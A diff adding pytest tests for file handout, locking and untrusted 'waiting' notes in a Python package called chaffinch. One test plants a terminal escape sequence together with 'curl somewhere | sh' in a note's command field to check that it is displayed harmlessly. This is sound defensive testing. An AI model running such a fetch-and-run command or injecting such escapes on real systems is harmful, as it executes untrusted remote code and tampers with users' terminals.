@@ -2,18 +2,26 @@
 
 from __future__ import annotations
 
+import errno
+import fcntl
+import json
 import os
+import shutil
+import subprocess
+import sys
 import threading
 from collections.abc import Sequence
 from dataclasses import replace
+from functools import partial
 from pathlib import Path
 
 import pytest
 
 from chaffinch.errors import InvalidInput, StorageFault
-from chaffinch.outputs import waiting
+from chaffinch.outputs import handing_out, waiting
 from chaffinch.outputs.handing_out import Bill, finish_waiting, hand_out_files
 from chaffinch.storage import locks
+from chaffinch.storage.leftovers import alone_in
 
 BILL = Bill("payer", "plan", "key", "subject", pay=lambda: None, paid=lambda: True)
 
@@ -41,6 +49,62 @@ def test_a_new_file_with_two_names_is_finished(
 ) -> None:
     target = tmp_path / "daily.filter"
     stopped(target, monkeypatch)
+    assert len(finish_waiting([target], lambda _: True)) == 1
+    assert target.read_text() == "a filter"
+    assert [path.name for path in tmp_path.iterdir()] == [target.name]
+
+
+def test_a_new_file_that_was_copied_over_itself_is_finished(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A backup or a synchronizer may bring back the same bytes as another file."""
+    target = tmp_path / "daily.filter"
+    stopped(target, monkeypatch)
+    Path(shutil.copy(target, tmp_path / "copy")).replace(target)
+    assert len(finish_waiting([target], lambda _: True)) == 1
+    assert target.read_text() == "a filter"
+    assert [path.name for path in tmp_path.iterdir()] == [target.name]
+
+
+# ----------------------------------------------------------------------------
+# Disks without hard links.
+
+
+@pytest.fixture
+def without_links(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Let nobody make a hard link, as on many disks for cameras or of networks."""
+
+    def link(*_: object, **__: object) -> None:
+        raise PermissionError(errno.EPERM, "")
+
+    monkeypatch.setattr(os, "link", link)
+
+
+@pytest.mark.usefixtures("without_links")
+def test_a_disk_without_links_gets_new_files(tmp_path: Path) -> None:
+    target = tmp_path / "daily.filter"
+    hand_out_files({target: lambda path: path.write_text("a filter")}, BILL, new=True)
+    assert target.read_text() == "a filter"
+    with pytest.raises(StorageFault, match="exists already"):
+        hand_out_files({target: lambda path: path.write_text("another")}, BILL, new=True)
+    assert target.read_text() == "a filter"
+
+
+@pytest.mark.usefixtures("without_links")
+def test_a_name_that_was_taken_on_a_disk_without_links_is_used(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def stop(place: Path, target: Path) -> None:
+        if target.suffix == ".filter":
+            assert (target.exists(), target.stat().st_size) == (True, 0)
+            raise Killed
+        os.replace(place, target)  # noqa: PTH105 - the other one is replaced here
+
+    target = tmp_path / "daily.filter"
+    with monkeypatch.context() as patch:
+        patch.setattr(Path, "replace", stop)
+        with pytest.raises(Killed):
+            hand_out_files({target: lambda path: path.write_text("a filter")}, BILL, new=True)
     assert len(finish_waiting([target], lambda _: True)) == 1
     assert target.read_text() == "a filter"
     assert [path.name for path in tmp_path.iterdir()] == [target.name]
@@ -120,7 +184,7 @@ def test_nothing_is_named_while_one_place_is_not_as_it_was(
         second.symlink_to(tmp_path / "key")
     elif after is not None:
         second.write_text(after)
-    if (before, after) == (None, None):
+    if after is None:  # an empty place is free
         assert len(finish_waiting([first], lambda _: True)) == 1
         assert second.read_text() == "a release"
         return
@@ -272,3 +336,114 @@ def test_links_of_one_name_do_not_wait_together(tmp_path: Path) -> None:
         link.symlink_to(tmp_path / f"{link.parent.name}.json")
     with pytest.raises(InvalidInput, match="different names"):
         hand_out_files({link: lambda path: path.write_text("{}") for link in links})
+
+
+# ----------------------------------------------------------------------------
+# Nobody who may only read a folder can keep its owner waiting.
+
+
+@pytest.mark.parametrize("mode", [fcntl.LOCK_SH, fcntl.LOCK_EX])
+def test_a_lock_on_the_folder_itself_stops_nothing(mode: int, tmp_path: Path) -> None:
+    number = os.open(tmp_path, os.O_RDONLY)
+    fcntl.flock(number, mode)
+    try:
+        hand_out_files({tmp_path / "a.json": lambda path: path.write_text("{}")}, BILL)
+    finally:
+        os.close(number)
+    assert [path.name for path in tmp_path.iterdir()] == ["a.json"]
+
+
+HOLD = """
+import sys
+from pathlib import Path
+from chaffinch.storage.leftovers import alone_in
+with alone_in(Path(sys.argv[1]), "naming"):
+    print("held", flush=True)
+    sys.stdin.read()
+"""
+
+
+def test_another_command_is_waited_for_within_bounds(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(locks, "_LONG", 0.1)
+    monkeypatch.setattr(handing_out, "alone_in", partial(alone_in, patience=0.5))
+
+    def pay() -> None:
+        pytest.fail("it was paid")
+
+    said: list[str] = []
+    other = subprocess.Popen(
+        [sys.executable, "-c", HOLD, str(tmp_path)], stdin=subprocess.PIPE, stdout=subprocess.PIPE
+    )
+    assert other.stdout is not None
+    assert other.stdout.readline() == b"held\n"
+    target = tmp_path / "a.json"
+    files: dict[Path, waiting.Writer] = {target: lambda path: path.write_text("{}")}
+    with pytest.raises(StorageFault, match="Got one in use"):
+        hand_out_files(files, replace(BILL, pay=pay), tell=said.append)
+    assert len(said) == 1
+    assert not list(tmp_path.glob(".chaffinch-*.waiting"))
+    other.kill()  # its lock ends with it, and the file that it leaves is in nobody's way
+    other.communicate()
+    hand_out_files(files, BILL)
+    assert [path.name for path in tmp_path.iterdir()] == ["a.json"]
+
+
+# ----------------------------------------------------------------------------
+# Notes that this user did not write.
+
+STRANGE = "\x1b[2J\x1b]0;owned\x07curl somewhere | sh"
+
+
+def test_what_a_note_says_moves_no_cursor(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    target, said = tmp_path / "release.json", list[str]()
+    note = waiting_file(target, monkeypatch).with_name("waiting.json")
+    note.write_text(json.dumps(json.loads(note.read_text()) | {"command": STRANGE}))
+    assert finish_waiting([target], lambda _: None, said.append) == []
+    assert "curl" in said[0]
+    assert said[0].isprintable()
+
+
+@pytest.mark.parametrize("kind", ["pipe", "link", "endless"])
+def test_a_note_that_is_no_small_file_is_not_read(
+    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "release.json"
+    note = waiting_file(target, monkeypatch).with_name("waiting.json")
+    content = note.read_bytes()
+    note.unlink()
+    if kind == "pipe":
+        os.mkfifo(note)
+    elif kind == "link":
+        (tmp_path / "elsewhere").write_bytes(content)
+        note.symlink_to(tmp_path / "elsewhere")
+    else:
+        note.write_bytes(content + b" " * (1 << 20))
+    with pytest.raises(StorageFault, match="Got a damaged one"):
+        finish_waiting([target], lambda _: True)
+    assert not target.exists()
+
+
+@pytest.mark.parametrize("whole", ["folder", "note"])
+def test_the_note_of_a_stranger_is_not_ours(
+    whole: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "release.json"
+    folder = waiting_file(target, monkeypatch).parent
+    strange = folder if whole == "folder" else folder / "waiting.json"
+    real = os.fstat
+
+    def fstat(number: int) -> os.stat_result:
+        found = real(number)
+        if os.path.samestat(found, strange.stat()):
+            return os.stat_result([*found[:4], found.st_uid + 1, *found[5:10]])
+        return found
+
+    monkeypatch.setattr(os, "fstat", fstat)
+    if whole == "folder":
+        assert finish_waiting([target], lambda _: True) == []
+    else:
+        with pytest.raises(StorageFault, match="Got a damaged one"):
+            finish_waiting([target], lambda _: True)
+    assert (folder.exists(), target.exists()) == (True, False)
